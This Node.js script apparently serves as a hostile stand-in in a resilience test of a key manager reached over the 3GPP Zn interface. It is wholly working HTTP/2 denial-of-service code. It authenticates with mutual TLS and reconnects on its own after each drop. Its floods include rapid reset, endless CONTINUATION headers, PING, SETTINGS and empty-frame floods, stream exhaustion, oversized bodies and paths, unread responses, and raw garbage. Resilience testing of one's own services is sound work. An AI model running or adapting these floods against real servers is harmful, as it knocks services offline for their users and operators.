// A system that floods the key manager over Zn, and serves nobody:  node flooding-zn.mjs CONFIG FLOOD...
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { connect as connectHttp2 } from "node:http2";
import { createServer } from "node:net";
import { connect as connectTls } from "node:tls";

const [config, ...floods] = process.argv.slice(2);
const { zn } = JSON.parse(readFileSync(config, "utf8")).keyManager;
const credentials = {
  ca: readFileSync(zn.trust),
  cert: readFileSync(zn.certificate),
  key: readFileSync(zn.privateKey),
  servername: zn.serverName,
};
const PATH = "/nbsp-gba/v1/bootstrapping-info-retrieval";
const POST = { ":method": "POST", ":path": PATH, "content-type": "application/json" };
const { hostname, port } = new URL(zn.url);

/** A connection that is made again whenever it ends. */
function http2(flood) {
  const session = connectHttp2(zn.url, credentials);
  session.on("error", () => undefined);
  session.once("close", () => setTimeout(() => http2(flood), 20));
  session.once("connect", () => flood(session));
}

function raw(flood) {
  const socket = connectTls({ ...credentials, host: hostname, port, ALPNProtocols: ["h2"] });
  socket.on("error", () => undefined);
  socket.once("close", () => setTimeout(() => raw(flood), 20));
  socket.once("secureConnect", () => {
    socket.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    socket.write(frame(4, 0, 0, Buffer.alloc(0)));
    flood(socket);
  });
}

function frame(type, flags, stream, payload) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Writes what `next` gives until the peer has had enough. */
function pour(socket, next) {
  const more = () => {
    while (!socket.destroyed && socket.writable && socket.write(next()));
  };
  socket.on("drain", more);
  more();
}

const literal = (name, value) =>
  Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
/** HPACK (RFC 7541): the request of an enabler, in literals. */
const HEADERS = Buffer.concat([
  literal(":method", "POST"),
  literal(":scheme", "https"),
  literal(":path", PATH),
  literal(":authority", "x"),
]);

/** The streams of a client have odd numbers that grow (RFC 9113 5.1.1). */
function streams() {
  let stream = -1;
  return () => {
    stream += 2;
    return stream;
  };
}

const ask = (session, body) => {
  const stream = session.request(POST);
  stream.on("error", () => undefined);
  stream.resume();
  stream.end(body);
  return stream;
};
const question = (btid) =>
  JSON.stringify({ btId: btid, nafId: { nafFqdn: zn.serverName, uaSecProtId: "01000100a8" } });

const FLOODS = {
  "endless body": () =>
    http2((session) => {
      const stream = session.request(POST);
      stream.on("error", () => undefined);
      stream.resume();
      pour(stream, () => Buffer.alloc(65_536, 0x20));
    }),
  "many streams": () =>
    http2((session) => {
      for (let count = 0; count < 2_000 && !session.destroyed; count++)
        session.request(POST).on("error", () => undefined);
    }),
  "many long questions": () =>
    http2((session) => {
      let count = 0;
      const next = () => {
        if (!session.destroyed)
          ask(session, question(`${count++}${"x".repeat(60_000)}@b`)).once("close", next);
      };
      for (let parallel = 0; parallel < 50; parallel++) next();
    }),
  "many wrong paths": () =>
    http2((session) => {
      const next = () => {
        if (session.destroyed) return;
        const stream = session.request({ ...POST, ":path": `/${"x".repeat(10_000)}` });
        stream.on("error", () => undefined);
        stream.once("close", next).resume().end();
      };
      for (let parallel = 0; parallel < 50; parallel++) next();
    }),
  "answers that nobody reads": () =>
    http2((session) => {
      session.socket.pause?.();
      for (let count = 0; count < 5_000 && !session.destroyed; count++) {
        const stream = session.request(POST);
        stream.on("error", () => undefined);
        stream.end(question(`${count}@b`));
      }
    }),
  "endless headers": () =>
    raw((socket) => {
      socket.write(frame(1, 0, 1, HEADERS));
      const continuation = frame(
        9,
        0,
        1,
        Buffer.concat(Array.from({ length: 100 }, () => literal("x", "y".repeat(100)))),
      );
      pour(socket, () => continuation);
    }),
  "rapid reset": () =>
    raw((socket) => {
      const next = streams();
      pour(socket, () => {
        const stream = next();
        // RST_STREAM with CANCEL behind the whole request.
        return Buffer.concat([frame(1, 5, stream, HEADERS), frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))]);
      });
    }),
  pings: () =>
    raw((socket) => pour(socket, () => Buffer.concat(Array(500).fill(frame(6, 0, 0, Buffer.alloc(8)))))),
  settings: () =>
    raw((socket) => pour(socket, () => Buffer.concat(Array(500).fill(frame(4, 0, 0, Buffer.alloc(0)))))),
  "empty frames": () =>
    raw((socket) => {
      socket.write(frame(1, 4, 1, HEADERS));
      pour(socket, () => Buffer.concat(Array(500).fill(frame(0, 0, 1, Buffer.alloc(0)))));
    }),
  garbage: () => raw((socket) => pour(socket, () => Buffer.alloc(16_384, 0xa5))),
  resets: () => raw((socket) => socket.destroy()),
};

const server = createServer((socket) => socket.on("error", () => undefined).resume());
server.listen(0, "127.0.0.1");
await once(server, "listening");
const at = { host: "127.0.0.1", port: server.address().port };
for (const flood of floods) FLOODS[flood]();
process.stdout.write(`${JSON.stringify({ ready: true, endpoints: { "uc1.https-digest": at } })}\n`);
